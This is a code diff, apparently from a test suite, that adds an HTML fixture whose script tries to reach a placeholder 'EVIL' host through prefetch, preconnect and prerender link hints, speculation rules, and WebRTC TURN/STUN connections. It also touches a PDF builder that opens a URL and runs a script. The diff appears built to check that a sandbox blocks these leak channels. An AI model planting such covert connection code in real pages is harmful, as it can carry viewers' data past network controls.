@@ -88,6 +88,46 @@ def html(elsewhere: str, home: str = "/") -> str:
 </body></html>"""
 
 
+_CONNECTING = """<!doctype html><title>plot</title><div id="plot">not drawn</div><script>
+(async () => {
+  const plot = document.getElementById('plot');
+  plot.textContent = 'drawn';
+  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
+    document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', href: 'EVIL/' + rel}));
+  }
+  const rules = {prefetch: [{urls: ['EVIL/rule'], eagerness: 'immediate'}], prerender: [{urls: ['EVIL/page']}]};
+  document.head.append(Object.assign(document.createElement('script'), {
+    type: 'speculationrules', textContent: JSON.stringify(rules)}));
+  try {
+    const urls = ['turn:HOST?transport=udp', 'turn:HOST?transport=tcp'];
+    const iceServers = [{urls, username: 'typed by the viewer', credential: 'x'}, {urls: 'stun:HOST'}];
+    const [one, two] = [new RTCPeerConnection({iceServers}), new RTCPeerConnection()];
+    const done = new Promise(resolve => {
+      one.onicegatheringstatechange = () => { if (one.iceGatheringState === 'complete') resolve(); };
+    });
+    one.createDataChannel('x');
+    await one.setLocalDescription(await one.createOffer());
+    await two.setRemoteDescription(one.localDescription);
+    await two.setLocalDescription(await two.createAnswer());
+    await one.setRemoteDescription(two.localDescription);
+    const [address, port] = 'HOST'.split(':');
+    const candidate = `candidate:1 1 udp 2113937151 ${address} ${port} typ host`;
+    await one.addIceCandidate({candidate, sdpMid: '0'});
+    await done;
+    plot.textContent = 'gathered';
+  } catch (error) { plot.textContent = 'refused'; }
+})();
+</script>"""
+
+
+def connecting_html(elsewhere: str) -> str:
+    """Return a document that opens connections other than requests; ``#plot`` reports how its WebRTC ended.
+
+    It says ``gathered`` or ``refused``, in that case after all that it could send has been sent.
+    """
+    return _CONNECTING.replace("EVIL", elsewhere).replace("HOST", elsewhere.partition("://")[2])
+
+
 def pdf(elsewhere: str) -> bytes:
     """Return one page that opens a URL and runs a script when it is opened."""
     objects = [
